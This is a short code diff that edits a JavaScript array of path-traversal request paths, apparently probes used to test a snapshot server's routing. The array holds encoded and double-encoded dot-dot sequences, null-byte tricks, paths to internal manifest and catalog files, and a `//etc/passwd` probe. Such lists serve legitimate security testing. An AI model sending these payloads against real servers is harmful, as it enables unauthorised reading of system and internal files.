@@ -23,7 +23,7 @@ const TRAVERSALS = [
   `/${pin}/..%2f..%2f${name}.json`, `/${pin}/..%5c..%5c${name}.json`, `/${pin}/..\\..\\${name}.json`, `/${pin}/%00/../${name}.json`,
   `/${pin}/orgs%00.json`, `/${pin}/%c0%ae%c0%ae/${name}.json`, `/${pin}/%c0%af${name}.json`, `/${pin}/%252e%252e/${name}.json`,
   `/${pin}/%25%32%65%25%32%65/${name}.json`, `/..%2f${name}.json`, `/%2e%2e/${name}.json`, `/${pin}/_snapverse/routes.json`,
-  `/${pin}/_snapverse/manifest.json`, `/_catalog.json`, `/${pin}/orgs/@.json`, `/${pin}/users/web-flow/@.json`, `//etc/passwd`,
+  `/${pin}/_snapverse/manifest.json`, `/_catalog.json`, `/${pin}/orgs/@.json`, `/${pin}/users/web-flow@.json`, `/${pin}/user@.json`, `//etc/passwd`,
   `/${pin}/./orgs`, `/${pin}//orgs`, `/catalog/_snapverse/routes.json`,
 ];
 
